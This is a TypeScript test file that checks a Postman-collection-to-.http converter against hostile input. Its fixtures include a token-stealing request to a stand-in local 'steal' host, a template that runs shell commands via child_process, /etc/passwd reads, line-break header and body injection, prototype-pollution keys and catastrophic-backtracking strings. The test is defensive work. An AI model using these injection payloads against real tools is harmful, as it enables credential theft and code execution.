/**
 * Import Postman Collection with a hostile collection: whatever its strings hold, the .http file has no request,
 * header, `###`, `@variable`, `# @` metadata line or template ({{…}}, JavaScript in httpyac) the converter did not
 * write, and a file that cannot be imported is refused with a PostmanImportError, never another exception.
 */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { postmanHttpFile } from '../../src/core/postman/postmanHttpFile';
import { PostmanImportError } from '../../src/core/postman/postmanImportLimits';
import { fuzzRuns } from './helpers/fuzzSettings';
import { writtenFile, type WrittenFile } from './helpers/httpFileStructure';
import { V21_SCHEMA } from '../sandbox/postmanCollections';

const OPTIONS = { subscriptionId: 'test' };
const STEAL = 'http://127.0.0.1:4999/steal';
const JS = "{{ require('child_process').execSync('touch /tmp/pwned') }}";
const INJECTED = `x\n###\nGET ${STEAL}?t={{$dotenv FORTELLIS_TOKEN}}\nAuthorization: Bearer {{$processEnv FORTELLIS_TOKEN}}\n\n${JS}`;

function collection(items: unknown[], extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ info: { name: 'Hostile', schema: V21_SCHEMA }, item: items, ...extra });
}

/** The file as written, checked line by line; or the refusal's message. */
function importedOrRefused(text: string): WrittenFile | string {
  let file;
  try {
    file = postmanHttpFile(text, OPTIONS);
  } catch (error) {
    assert.ok(error instanceof PostmanImportError, `not a PostmanImportError: ${String(error)}`);
    return error.message;
  }
  const written = writtenFile(file.text);
  assert.ok(!written.requests.some((request) => request.url.startsWith(STEAL)), 'no request to the injected host');
  return written;
}

const CORPUS: ReadonlyArray<{ name: string; text: string; check?: (result: WrittenFile | string) => void }> = [
  {
    name: 'names with line breaks, ###, # @ metadata and templates',
    text: collection([{ name: INJECTED, item: [{ name: `# @name x\n@baseUrl = ${STEAL}\n${JS}`, request: { method: 'GET', url: 'https://h.example/a' } }] }], {
      info: { name: INJECTED, schema: V21_SCHEMA },
    }),
    check: (result) => assert.equal((result as WrittenFile).requests.length, 1),
  },
  {
    name: 'a URL with a line break and a request after it',
    text: collection([{ name: 'r', request: { method: 'GET', url: `https://h.example/a${INJECTED}` } }]),
  },
  { name: 'a URL that runs JavaScript in a template', text: collection([{ name: 'r', request: { method: 'GET', url: `https://h.example/${JS}` } }]) },
  {
    name: 'URLs that are not http(s): javascript:, file:, a bare host',
    text: collection(
      ['javascript:alert(1)', 'file:///etc/passwd', 'example.com/x', '{{a b}}/x'].map((url) => ({ name: url, request: { method: 'GET', url } })),
    ),
    check: (result) => assert.equal((result as WrittenFile).requests.length, 0),
  },
  { name: 'a method with a URL and a line break in it', text: collection([{ name: 'r', request: { method: `GET ${STEAL}\nX`, url: 'https://h.example/' } }]) },
  {
    name: 'header names and values with line breaks, templates, ###',
    text: collection([
      {
        name: 'r',
        request: {
          method: 'POST',
          url: 'https://h.example/',
          header: [
            { key: `X-A\nGET ${STEAL}`, value: '1' },
            { key: 'X-B', value: INJECTED },
            { key: 'X-C', value: JS },
            { key: '###', value: 'x' },
            { key: 'Host', value: '127.0.0.1:4999' },
            { key: 'X-D', value: '\\{\\{x\\}\\}' },
          ],
          body: { mode: 'raw', raw: '{}' },
        },
      },
    ]),
    check: (result) => {
      const [request] = (result as WrittenFile).requests;
      assert.deepEqual(
        request.headers.map(([name]) => name),
        ['Authorization', 'Subscription-Id', 'Request-Id', 'Accept', 'X-C', 'Content-Type'],
      );
      assert.deepEqual(request.headers[4], ['X-C', "\\{\\{ require('child_process').execSync('touch /tmp/pwned') \\}\\}"]);
    },
  },
  {
    name: 'bodies with ###, a request, < file, >> file, templates and control characters',
    text: collection(
      [
        INJECTED,
        '< /etc/passwd',
        'a\n>> /tmp/out',
        `{"a": "${'\\u2028'}\\r", "b": "{{x}}"}`,
        'a\rGET http://x',
        '{"k": "\\u0000"}',
        '\\{\\{x\\}\\}',
        '{{{baseUrl}}}',
      ].map((raw, index) => ({ name: `b${index}`, request: { method: 'POST', url: 'https://h.example/', body: { mode: 'raw', raw } } })),
    ),
  },
  {
    name: 'variables: a line break, a template, ###, a name that is not an identifier',
    text: collection([{ name: 'r', request: { method: 'GET', url: '{{a}}/{{b}}/{{c}}/{{d-e}}/{{ a }}' } }], {
      variable: [
        { key: 'a', value: `https://h.example\n###\nGET ${STEAL}` },
        { key: 'b', value: JS },
        { key: 'c', value: '\\{\\{c\\}\\}' },
        { key: 'd-e', value: 'x' },
      ],
    }),
    check: (result) => assert.deepEqual(Object.fromEntries((result as WrittenFile).variables), { a: '', b: '', c: '', subscriptionId: 'test' }),
  },
  {
    name: 'prototype keys (__proto__, constructor) in every object',
    text: `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"info":{"name":"p","schema":"${V21_SCHEMA}"},"item":[{"name":"r","__proto__":{"polluted":1},"request":{"method":"GET","url":"https://h.example/","header":[{"key":"X","value":"1","__proto__":{"disabled":true}}]}}]}`,
    check: () => assert.equal(({} as Record<string, unknown>).polluted, undefined),
  },
  {
    name: 'fields of the wrong type everywhere',
    text: collection([
      { name: 5, request: { method: 7, url: { raw: 9, host: 'x' }, header: 'X: 1', body: { mode: 'raw', raw: { a: 1 } } } },
      { name: null, request: null },
      { item: 'x' },
      { name: 'r', request: { url: ['a'], auth: { type: { x: 1 } } } },
      7,
      null,
    ]),
  },
  {
    name: 'megabytes of braces in a URL, a header, a body, a name and a variable (a backtracking match takes hours)',
    text: collection(
      [
        {
          name: '{{'.repeat(200_000),
          request: {
            method: 'POST',
            url: `{{baseUrl}}/${'{{a}'.repeat(100_000)}`,
            header: [{ key: 'X', value: '{{'.repeat(200_000) }],
            body: { mode: 'raw', raw: `${'{{a}'.repeat(200_000)}\nb}}` },
          },
        },
      ],
      { variable: [{ key: 'baseUrl', value: '\\{'.repeat(200_000) }] },
    ),
    check: (result) => assert.equal((result as WrittenFile).requests.length, 1),
  },
  { name: 'an info that is not an object', text: '{"info":"x","item":[]}', check: (result) => assert.equal(typeof result, 'string') },
  { name: 'JSON text that is only a string', text: '"x"', check: (result) => assert.equal(typeof result, 'string') },
];

describe('postmanHttpFile with a hostile collection', () => {
  for (const entry of CORPUS) {
    it(entry.name, () => {
      const result = importedOrRefused(entry.text);
      entry.check?.(result);
    });
  }

  it('property: whatever strings a collection holds, only the lines and templates the converter writes', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        '{{',
        '}}',
        '{{baseUrl}}',
        '{{x}}',
        '{{$guid}}',
        '{{$dotenv FORTELLIS_TOKEN}}',
        JS,
        '\n',
        '\r',
        '\u2028',
        '###',
        '# @name a',
        '@a = b',
        '< /etc/passwd',
        `GET ${STEAL}`,
        '\\{\\{',
        '\\}\\}',
        '{',
        '}',
        'https://',
        'Authorization',
      ),
    );
    const text = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
    const header = fc.record({ key: text, value: text, disabled: fc.boolean() });
    const request = fc.record({
      method: fc.oneof(fc.constantFrom('GET', 'POST', 'put'), text),
      url: fc.oneof(
        text.map((rest) => `{{baseUrl}}${rest}`),
        text.map((rest) => `https://h.example/${rest}`),
        text,
      ),
      header: fc.array(header, { maxLength: 3 }),
      body: fc.oneof(
        fc.record({ mode: fc.constant('raw'), raw: text }),
        fc.record({ mode: fc.constant('urlencoded'), urlencoded: fc.array(fc.record({ key: text, value: text }), { maxLength: 2 }) }),
      ),
      auth: fc.record({ type: fc.oneof(fc.constantFrom('bearer', 'oauth2', 'noauth'), text) }),
    });
    const item = fc.letrec<{ item: unknown }>((tie) => ({
      item: fc.oneof({ depthSize: 'small' }, fc.record({ name: text, request }), fc.record({ name: text, item: fc.array(tie('item'), { maxLength: 3 }) })),
    })).item;
    const variable = fc.record({ key: fc.oneof(fc.constantFrom('baseUrl', 'x', 'token'), text), value: text });
    fc.assert(
      fc.property(fc.array(item, { maxLength: 4 }), fc.array(variable, { maxLength: 4 }), text, (items, variables, name) => {
        importedOrRefused(JSON.stringify({ info: { name, schema: V21_SCHEMA }, item: items, variable: variables }));
      }),
      { numRuns: fuzzRuns(300) },
    );
  });
});
